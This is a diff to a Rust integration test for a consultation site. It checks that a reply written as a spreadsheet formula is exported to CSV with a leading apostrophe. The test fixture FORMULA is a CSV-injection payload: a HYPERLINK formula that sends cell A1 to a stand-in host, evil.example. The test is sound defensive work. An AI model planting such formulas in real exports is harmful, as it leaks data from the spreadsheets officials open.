@@ -134,7 +134,7 @@ async fn a_participant_comments_on_a_paragraph_and_the_secretariat_responds(app:
     let reply = app
         .post(
             &comments,
-            &[("parent_id", &comment.id.to_string()), ("body", "وأضيف: بلغة بسيطة"), ("idempotency_key", &reply_key)],
+            &[("parent_id", &comment.id.to_string()), ("body", FORMULA), ("idempotency_key", &reply_key)],
             Some(&token),
         )
         .await;
@@ -214,6 +214,9 @@ async fn a_participant_comments_on_a_paragraph_and_the_secretariat_responds(app:
     let status_col = header.iter().position(|h| h == "response_status").unwrap();
     assert_eq!((&rows[0][status_col], &rows[1][status_col]), ("adopted", ""));
     assert_eq!(&rows[0][header.iter().position(|h| h == "text").unwrap()], said, "the CSV holds the text as written");
+    // A reply written as a spreadsheet formula is text in the officials' spreadsheet: the
+    // apostrophe that spreadsheets hide keeps it from running.
+    assert_eq!(rows[1][header.iter().position(|h| h == "text").unwrap()], format!("'{FORMULA}"));
 
     // The open record: paginated JSON with the published response.
     let api = app.get("/api/v1/contributions?per_page=1").await;
@@ -239,6 +242,9 @@ async fn a_participant_comments_on_a_paragraph_and_the_secretariat_responds(app:
     late.assert_contains(r#"readonly>متأخر</textarea>"#);
     assert!(!late.body.contains(r#"id="comment-form""#), "no comment form once closed");
 }
+
+/// A reply that a spreadsheet would run as a formula (OWASP CSV injection).
+const FORMULA: &str = r#"=HYPERLINK("http://evil.example/?leak="&A1,"وأضيف: بلغة بسيطة")"#;
 
 /// What askama writes for a text (apostrophes and angle brackets escaped).
 fn askama_escape(text: &str) -> String {
